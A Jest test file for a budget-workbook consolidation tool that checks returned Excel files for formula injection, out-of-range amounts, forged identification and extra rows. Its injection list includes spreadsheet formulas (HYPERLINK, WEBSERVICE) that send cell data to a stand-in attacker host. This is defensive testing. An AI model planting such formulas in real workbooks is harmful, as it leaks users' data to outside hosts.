/**
 * Returned workbooks that try to smuggle a live formula into the catalogue, overflow the exact
 * sums, or change a total without saying so: through the command line and through the task pane's
 * consolidation, each gives a named finding or refusal with its file and cell, the other files are
 * consolidated, and the catalogue holds no formula but its own total row.
 */
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { main } from "../../src/cli/workbooks";
import { exactSum } from "../../src/core";
import { createMemoryWorkbookApi } from "../../src/excel/memory/memoryApi";
import { MemoryWorkbook } from "../../src/excel/memory/memoryWorkbook";
import { buildCatalogueWrite } from "../../src/taskpane/wizards/workbooks/catalogueWrite";
import { loadWorkbooks } from "../../src/taskpane/wizards/workbooks/loadWorkbooks";
import {
  consolidate,
  fillDepartmentWorkbook,
  findingMessage,
  loadWorkbookBytes,
  type Consolidation,
  type DepartmentInput,
  type Finding,
  type GeneratedFile,
  type ReturnedFile,
} from "../../src/workbooks";
import { sampleCentral } from "../../src/sample/sampleCentral";
import { sheetPartNames } from "../../src/workbooks/file/sheetXml";
import { ANSWERS, fileOf, sampleFiles, sheet, tamper } from "./workbooks-helpers";

const EXPECTED = sampleCentral().departments.map((d) => ({ code: d.code, name: d.name }));
const GOOD: Record<string, DepartmentInput> = {
  ...ANSWERS,
  MBU: { proposals: [{ title: "Færre pladser", kind: "reduction", amounts: [3.5, 3.5, 4, 4] }] },
  BA: { proposals: [{ title: "Fælles kantine", kind: "efficiency", amounts: [0.7, 0.8, 0.8, 0.8] }] },
};

let files: Map<string, GeneratedFile>;
const filled = new Map<string, Uint8Array>();

beforeAll(async () => {
  files = await sampleFiles();
  for (const [code, input] of Object.entries(GOOD))
    filled.set(code, await fillDepartmentWorkbook(fileOf(files, code).bytes, input));
});

function good(code: string): ReturnedFile {
  const bytes = filled.get(code);
  if (!bytes) throw new Error(`no filled workbook for ${code}`);
  return { name: `2027-${code}.xlsx`, bytes };
}

/** Each department's totals per year, summed independently from what it typed. */
function typedTotals(input: DepartmentInput): number[] {
  return [0, 1, 2, 3].map((y) =>
    exactSum(input.proposals.map((p) => Number(String(p.amounts[y] ?? 0).replace(",", ".")))),
  );
}

function department(result: Consolidation, code: string) {
  const found = result.departments.find((d) => d.code === code);
  if (!found) throw new Error(`no status for ${code}`);
  return found;
}

function named(findings: readonly Finding[]): string[] {
  return findings.map((f) => `${f.kind} ${f.file} ${f.cell ?? "-"} ${f.text.code}`);
}

/** The five departments other than `except` are consolidated with exactly the totals they typed. */
function expectOthersWhole(result: Consolidation, except: string): void {
  for (const [code, input] of Object.entries(GOOD)) {
    if (code === except) continue;
    expect(department(result, code).state).toBe("returned");
    expect(department(result, code).workbook?.totals).toEqual(typedTotals(input));
  }
}

/** Every returned file but `code`'s good one, and the hostile file in its place. */
async function withOthers(code: string, hostile: ReturnedFile): Promise<Consolidation> {
  const others = Object.keys(GOOD)
    .filter((c) => c !== code)
    .map(good);
  return consolidate([...others, hostile], { expected: EXPECTED });
}

/** The worksheet XML of a sheet, edited as text: the way to write what exceljs itself cannot (t="d"). */
async function editSheetXml(bytes: Uint8Array, sheetName: string, edit: (xml: string) => string): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(bytes);
  const workbookXml = await zip.file("xl/workbook.xml")?.async("string");
  const rels = await zip.file("xl/_rels/workbook.xml.rels")?.async("string");
  const part = [...sheetPartNames(workbookXml ?? "", rels ?? "")].find(([, name]) => name === sheetName)?.[0];
  const xml = part ? await zip.file(part)?.async("string") : undefined;
  if (!part || xml === undefined) throw new Error(`no sheet ${sheetName}`);
  zip.file(part, edit(xml));
  return zip.generateAsync({ type: "uint8array", compression: "DEFLATE" });
}

const INJECTIONS = [
  "=1+1",
  '=HYPERLINK("http://angriber.example/?"&A1,"Klik")',
  '=WEBSERVICE("http://angriber.example/")',
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "＝1+1",
];

describe("text from a returned file reaches every cell as text (formula injection)", () => {
  let result: Consolidation;
  let bytes: Uint8Array;

  beforeAll(async () => {
    bytes = await fillDepartmentWorkbook(fileOf(files, "MSB").bytes, {
      contactPerson: '=HYPERLINK("http://angriber.example")',
      proposals: INJECTIONS.map((text, i) => ({
        title: text,
        description: text,
        kind: "efficiency",
        amounts: [i + 1, 0, 0, 0],
        service: text,
        staff: text,
      })),
    });
    result = await withOthers("MSB", { name: "2027-MSB.xlsx", bytes });
  });

  test("each prefix in title, description and consequences is a note naming its cell; the amounts count", () => {
    const msb = department(result, "MSB");
    expect(msb.state).toBe("returned");
    const notes = msb.findings.filter((f) => f.text.code === "formulaLikeText").map((f) => f.cell);
    const expected = INJECTIONS.flatMap((_, i) => ["B", "C", "K", "L"].map((column) => `Forslag!${column}${11 + i}`));
    expect(notes).toEqual(expect.arrayContaining([...expected, "Forside!B13"]));
    expect(notes).toHaveLength(expected.length + 1);
    expect(findingMessage(msb.findings.find((f) => f.cell === "Forslag!B17") as Finding, "en")).toBe(
      '2027-MSB.xlsx, Forslag!B17: the title "\\t=1+1" begins as a formula would; it is kept as text, and written to the catalogue as text.',
    );
    // 1 + 2 + ... + 10 in 2027: no amount is lost to the text beside it.
    expect(msb.workbook?.totals).toEqual([55, 0, 0, 0]);
    expect(msb.workbook?.proposals.map((p) => p.title)).toEqual(INJECTIONS.map((t) => t.trim()));
    expectOthersWhole(result, "MSB");
  });

  test("pane: every such text is quote-prefixed for Excel, and the written sheet holds no formula", async () => {
    const plan = buildCatalogueWrite(result, await loadWorkbooks(), "da", { newSheet: true, target: "" }, "Ark1");
    const cells = plan.block.formulas.flat();
    const texts = cells.filter((c): c is string => typeof c === "string");
    for (const injection of INJECTIONS.map((t) => t.trim())) expect(texts).toContain(`'${injection}`);
    // No text reaches the writer as something it or Excel would take for a formula.
    expect(texts.filter((t) => /^\s*[=+\-@＝]/.test(t) || /^[\t\r\n]/.test(t))).toEqual([]);
    const workbook = new MemoryWorkbook();
    workbook.addSheet("Ark1");
    const api = createMemoryWorkbookApi(workbook);
    await api.writeBlock("Ark1!A1", plan.block);
    // A read shows a quote-prefixed text as its value, as Excel's does; a formula shows something else.
    const read = await api.readRange(`Ark1!A1:Z${plan.block.formulas.length}`);
    const formulas = read.formulas.flatMap((row, r) =>
      row.filter((f, c) => typeof f === "string" && f.startsWith("=") && f !== read.values[r]?.[c]),
    );
    expect(formulas).toEqual([]);
  });

  test("command line: the catalogue's only formulas are its own total row", async () => {
    const folder = mkdtempSync(join(tmpdir(), "raaderum-injection-"));
    try {
      mkdirSync(join(folder, "ind"));
      writeFileSync(join(folder, "ind", "2027-MSB.xlsx"), bytes);
      for (const code of ["MTM", "MSO"]) writeFileSync(join(folder, "ind", `2027-${code}.xlsx`), good(code).bytes);
      const io = { out: () => undefined, err: () => undefined, cwd: folder };
      expect(await main(["consolidate", "ind", "--into", "katalog.xlsx"], io)).toBe(0);
      const catalogue = new ExcelJS.Workbook();
      await loadWorkbookBytes(catalogue, new Uint8Array(readFileSync(join(folder, "katalog.xlsx"))));
      const formulas: string[] = [];
      const titles: string[] = [];
      for (const ws of catalogue.worksheets)
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.formula) formulas.push(`${ws.name}!${cell.address}=${cell.formula}`);
            if (ws.name === "Katalog" && Number(cell.col) === 4 && typeof cell.value === "string")
              titles.push(cell.value);
          }),
        );
      // 10 + 2 + 3 proposals: the total row is row 17, summing the four years and the total.
      expect(formulas).toEqual(["G", "H", "I", "J", "K"].map((c) => `Katalog!${c}17=SUM(${c}2:${c}16)`));
      expect(titles).toEqual(expect.arrayContaining(INJECTIONS.map((t) => t.trim())));
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});

describe("numbers the template would not accept cost only their cell, never the total", () => {
  test("an overflowing pair (1e308 + 1e308 in a row and in a year) beside five good files", async () => {
    const bytes = await fillDepartmentWorkbook(fileOf(files, "BA").bytes, {
      proposals: [
        { title: "Stort", kind: "efficiency", amounts: [1e308, 1e308, 1, 1] },
        { title: "Større", kind: "efficiency", amounts: [1e308, 2, 2, 2] },
      ],
    });
    const result = await withOthers("BA", { name: "2027-BA.xlsx", bytes });
    const ba = department(result, "BA");
    expect(ba.state).toBe("returned");
    expect(named(ba.findings)).toEqual([
      "invalidCell 2027-BA.xlsx Forslag!E11 amountOutOfRange",
      "invalidCell 2027-BA.xlsx Forslag!F11 amountOutOfRange",
      "invalidCell 2027-BA.xlsx Forslag!E12 amountOutOfRange",
    ]);
    expect(ba.findings[0]?.message).toBe(
      "2027-BA.xlsx, Forslag!E11: the amount for 2027 is 1e+308, outside what the workbook accepts (between -1.000.000.000 and 1.000.000.000); it is left out of the totals. Type the amount in the workbook's unit.",
    );
    expect(ba.workbook?.totals).toEqual([0, 2, 3, 3]);
    expectOthersWhole(result, "BA");
  });

  test("1e20, a value past the template's limit, and an FTE past its own", async () => {
    const bytes = await fillDepartmentWorkbook(fileOf(files, "BA").bytes, {
      proposals: [{ title: "Næsten", kind: "efficiency", amounts: [999999999, 1e9, 1e20, -1e9], fte: 250000 }],
    });
    const ba = department(await withOthers("BA", { name: "2027-BA.xlsx", bytes }), "BA");
    expect(named(ba.findings)).toEqual([
      "invalidCell 2027-BA.xlsx Forslag!F11 amountOutOfRange",
      "invalidCell 2027-BA.xlsx Forslag!G11 amountOutOfRange",
      "invalidCell 2027-BA.xlsx Forslag!H11 amountOutOfRange",
      "invalidCell 2027-BA.xlsx Forslag!J11 fteOutOfRange",
    ]);
    // Just below the limit is accepted, as the template's validation accepts it.
    expect(ba.workbook?.totals).toEqual([999999999, 0, 0, 0]);
  });

  test("an amount with more decimals than the run's is used as typed, with a note", async () => {
    const bytes = await fillDepartmentWorkbook(fileOf(files, "BA").bytes, {
      proposals: [{ title: "Præcist", kind: "efficiency", amounts: [10.55, 1e-7, 2, 2] }],
    });
    const ba = department(await withOthers("BA", { name: "2027-BA.xlsx", bytes }), "BA");
    expect(named(ba.findings)).toEqual([
      "note 2027-BA.xlsx Forslag!E11 amountTooPrecise",
      "note 2027-BA.xlsx Forslag!F11 amountTooPrecise",
    ]);
    expect(ba.workbook?.totals).toEqual([10.55, 1e-7, 2, 2]);
  });

  test("a forged quota of 1e308 in the identification refuses that file only", async () => {
    const bytes = await tamper(filled.get("BA") as Uint8Array, (workbook) => {
      sheet(workbook, "Råderum-id").eachRow((row) => {
        if (row.getCell(1).value === "Kvote!B8") row.getCell(2).value = "n:1e308";
      });
    });
    const result = await withOthers("BA", { name: "2027-BA.xlsx", bytes });
    expect(department(result, "BA").state).toBe("refused");
    expect(department(result, "BA").findings.map((f) => f.message)).toEqual([
      '2027-BA.xlsx: the file is refused: its identification is damaged (Kvote!B8: quota is "1e+308")',
    ]);
    expectOthersWhole(result, "BA");
  });

  test('an ISO date cell (t="d") and a formula in an input cell are named, not read as 2030 or 5', async () => {
    const formula = await tamper(filled.get("MKB") as Uint8Array, (workbook) => {
      // =1+1 whose saved result says 5: neither is taken.
      sheet(workbook, "Forslag").getCell("F11").value = { formula: "1+1", result: 5 };
    });
    const bytes = await editSheetXml(formula, "Forslag", (xml) =>
      xml.replace(/<c r="E11"([^>]*?)(\/>|>[\s\S]*?<\/c>)/, '<c r="E11" t="d"><v>2030-06-15</v></c>'),
    );
    const result = await withOthers("MKB", { name: "2027-MKB.xlsx", bytes });
    const mkb = department(result, "MKB");
    expect(named(mkb.findings)).toEqual([
      "invalidCell 2027-MKB.xlsx Forslag!E11 dateInAmount",
      "invalidCell 2027-MKB.xlsx Forslag!F11 formulaInAmount",
    ]);
    expect(mkb.findings.map((f) => findingMessage(f, "da"))).toEqual([
      "2027-MKB.xlsx, Forslag!E11: Beløbet for 2027 er datoen 15-06-2030, ikke et tal. Det er ikke regnet med i totalerne. Skriv beløbet som et tal.",
      "2027-MKB.xlsx, Forslag!F11: Beløbet for 2028 er formlen =1+1 (gemt resultat 5), ikke et tal. Et gemt resultat kan ikke efterprøves, så det er ikke regnet med i totalerne. Skriv selve tallet.",
    ]);
    // MKB typed 7 a year; the two cells are out, the rest stands.
    expect(mkb.workbook?.totals).toEqual([0, 0, 7, 7]);
    expectOthersWhole(result, "MKB");
  });
});

describe("rows past the table and a renamed file", () => {
  test("300.000 rows below the table are one finding, and the total is the table's", async () => {
    const started = Date.now();
    const bytes = await editSheetXml(filled.get("MTM") as Uint8Array, "Forslag", (xml) => {
      const rows: string[] = [];
      for (let r = 51; r <= 300050; r++) rows.push(`<row r="${r}"><c r="E${r}"><v>1</v></c></row>`);
      return xml.replace("</sheetData>", `${rows.join("")}</sheetData>`);
    });
    const result = await withOthers("MTM", { name: "2027-MTM.xlsx", bytes });
    const mtm = department(result, "MTM");
    expect(named(mtm.findings)).toEqual(["outsideTable 2027-MTM.xlsx Forslag!51:300050 rowsBelowTable"]);
    expect(mtm.findings[0]?.message).toBe(
      "2027-MTM.xlsx, Forslag!51:300050: 300.000 rows (51 to 300050) below the table (which ends at row 50) hold something; they are not in the catalogue or the totals. Move the proposals up into the table (or ask for a workbook with more rows).",
    );
    expect(mtm.workbook?.totals).toEqual(typedTotals(GOOD.MTM as DepartmentInput));
    expect(mtm.workbook?.proposals).toHaveLength(2);
    expectOthersWhole(result, "MTM");
    expect(Date.now() - started).toBeLessThan(20000);
  }, 30000);

  test("a department's file renamed to another's name is counted where it belongs, with a note", async () => {
    const result = await consolidate([{ name: "2027-MSB.xlsx", bytes: filled.get("MTM") as Uint8Array }, good("MSO")], {
      expected: EXPECTED,
    });
    expect(department(result, "MSB").state).toBe("missing");
    expect(department(result, "MTM").state).toBe("returned");
    expect(department(result, "MTM").findings.map((f) => findingMessage(f, "en"))).toEqual([
      "2027-MSB.xlsx: the file is named for MSB, but it is MTM's workbook (by its identification); it is counted under MTM. Check that MSB returned its own workbook.",
    ]);
  });
});

describe("the command line's exit status and its plain messages", () => {
  let folder: string;
  const lines: string[] = [];
  const io = () => ({ out: (t: string) => lines.push(t), err: (t: string) => lines.push(t), cwd: folder });
  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), "raaderum-exit-"));
    mkdirSync(join(folder, "ind"));
    writeFileSync(join(folder, "ind", "2027-MTM.xlsx"), good("MTM").bytes);
    lines.length = 0;
  });
  afterEach(() => rmSync(folder, { recursive: true, force: true }));

  test("0 when every file is used, 2 when some are refused, 1 when nothing is written", async () => {
    expect(await main(["consolidate", "ind", "--into", "katalog.xlsx"], io())).toBe(0);
    writeFileSync(join(folder, "ind", "2027-BA.xlsx"), "ikke et regneark");
    expect(await main(["consolidate", "ind", "--into", "katalog.xlsx"], io())).toBe(2);
    expect(lines.at(-1)).toBe("1 file was refused (see above).");
    expect(await main(["consolidate", "ind"], io())).toBe(1);
  });

  test("a read-only catalogue or an unwritable path is a sentence, not a stack trace", async () => {
    expect(await main(["consolidate", "ind", "--into", "katalog.xlsx"], io())).toBe(0);
    const before = readFileSync(join(folder, "katalog.xlsx"));
    chmodSync(join(folder, "katalog.xlsx"), 0o444);
    lines.length = 0;
    expect(await main(["consolidate", "ind", "--into", "katalog.xlsx"], io())).toBe(1);
    expect(lines).toEqual([
      `${join(folder, "katalog.xlsx")} is read-only, so the catalogue was not written. Choose another --into, or make the file writable.`,
    ]);
    expect(readFileSync(join(folder, "katalog.xlsx")).equals(before)).toBe(true);
    writeFileSync(join(folder, "noter.txt"), "ikke en mappe");
    lines.length = 0;
    expect(await main(["consolidate", "ind", "--into", "noter.txt/katalog.xlsx"], io())).toBe(1);
    expect(lines).toEqual([
      `Error: cannot use ${join(folder, "noter.txt", "katalog.xlsx")}: a part of the path is a file, not a folder. Choose another file or folder, or mend its permissions, and try again.`,
    ]);
  });
});
